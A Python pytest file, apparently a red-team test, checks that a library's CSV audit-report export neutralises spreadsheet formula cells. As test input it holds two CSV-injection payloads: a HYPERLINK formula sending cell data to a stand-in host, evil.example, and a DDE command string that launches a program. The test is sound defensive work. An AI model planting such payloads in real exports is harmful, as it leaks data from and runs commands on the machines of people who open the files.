"""Red team 4: the audit report's CSV export. Its cells come from trace files and ledgers
(actor ids, roles, services a peer wrote), and a privacy team opens the files in a
spreadsheet: no cell may start a formula (the library's own rule for every CSV it writes,
`purposeful._shared.document.spreadsheet.neutralise`)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from _audit_inputs import HandPart, HandScope, write_traces
from purposeful.cli import main

FORMULA_ACTOR = '=HYPERLINK("https://evil.example/?leak="&B2,"open")'
FORMULA_ROLE = "@SUM(1+1)*cmd|' /C calc'!A0"
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("engine", ["stream", "duckdb"])
def test_red4_no_csv_cell_of_the_audit_report_starts_a_formula(tmp_path: Path, engine: str) -> None:
    traces = write_traces(
        tmp_path / "traces.jsonl",
        [
            HandScope(
                "scope-1",
                (HandPart({"p:1": frozenset({"Client.name"})}),),
                actor=FORMULA_ACTOR,
                role=FORMULA_ROLE,
            )
        ],
    )
    folder = tmp_path / "csv"
    assert main(["audit", "report", str(traces), "--engine", engine, "--csv", str(folder)]) == 0
    cells = [
        (file.name, cell)
        for file in sorted(folder.iterdir())
        for row in csv.reader(file.read_text(encoding="utf-8").splitlines())
        for cell in row
    ]
    assert any(FORMULA_ACTOR in cell for _, cell in cells)  # the actor is in the export
    assert [(name, cell) for name, cell in cells if cell.startswith(STARTS)] == []
